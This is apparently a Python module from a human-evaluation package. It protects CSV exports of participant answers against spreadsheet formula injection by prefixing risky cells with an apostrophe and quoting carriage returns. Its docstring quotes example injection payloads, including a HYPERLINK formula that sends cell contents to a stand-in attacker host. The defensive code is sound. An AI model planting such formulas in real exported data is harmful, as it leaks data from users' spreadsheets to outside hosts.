"""Neutralising spreadsheet formulas in the CSV files written from participant input.

A comment such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` or ``@SUM(1+1)*cmd|...``
is a formula to Excel, LibreOffice and Google Sheets when the exported CSV is opened. Every CSV the
package writes from collected answers (the server's admin export, ``collect prolific --table /
--participants``, ``collect mturk --table`` and ``repost.csv``) passes through
:func:`neutralise_formulas`: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe (the OWASP recommendation), which spreadsheets show as
text. Plain numbers such as ``-3`` or ``+1.5`` are left alone. The files are written with
RFC 4180 line ends (CRLF), so a carriage return inside a comment is quoted instead of
starting a new row (pandas' default ``\n`` line end leaves a bare ``\r`` unquoted). JSON exports
and the ratings table (which holds no free text) are unchanged.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

from humaneval.methods.values import parse_number

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    Examples
    --------
    >>> neutralise_cell("=1+1"), neutralise_cell("-3"), neutralise_cell("fine"), neutralise_cell(7)
    ("'=1+1", '-3', 'fine', 7)
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and parse_number(value) is None:
        return "'" + value
    return value


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise_cell)
    return out.rename(columns=neutralise_cell)


def write_safe_table(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write ``frame`` like :func:`humaneval.io.tables.write_table` (format by extension), CSV and
    TSV neutralised and with CRLF line ends; JSON lines as they are."""
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix in {".jsonl", ".ndjson", ".json"}:
        from humaneval.io.tables import write_table

        return write_table(frame, path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(safe_csv_text(frame, sep="\t" if suffix == ".tsv" else ","), encoding="utf-8", newline="")
    return path


def safe_csv_text(frame: pd.DataFrame, sep: str = ",") -> str:
    """The CSV text of :func:`neutralise_formulas` of ``frame`` (no index, CRLF line ends)."""
    return neutralise_formulas(frame).to_csv(index=False, sep=sep, lineterminator="\r\n")
